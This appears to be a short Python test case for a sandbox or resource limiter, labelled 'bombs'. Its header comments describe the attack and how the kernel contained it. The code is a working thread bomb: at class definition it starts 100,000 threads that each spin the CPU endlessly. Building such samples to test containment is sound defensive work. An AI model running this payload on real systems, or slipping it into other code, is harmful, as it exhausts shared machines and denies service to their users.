# class: bombs
# attack: starts threads without end, each of which burns the processor
# noticed: - (the kernel refuses further threads to the class that is no exercise; those that run burn its own time)
# seconds: 60

# %%
import threading


class Bomb:
    def burn():
        while True:
            pass

    for _ in range(100_000):
        threading.Thread(target=burn, daemon=True).start()
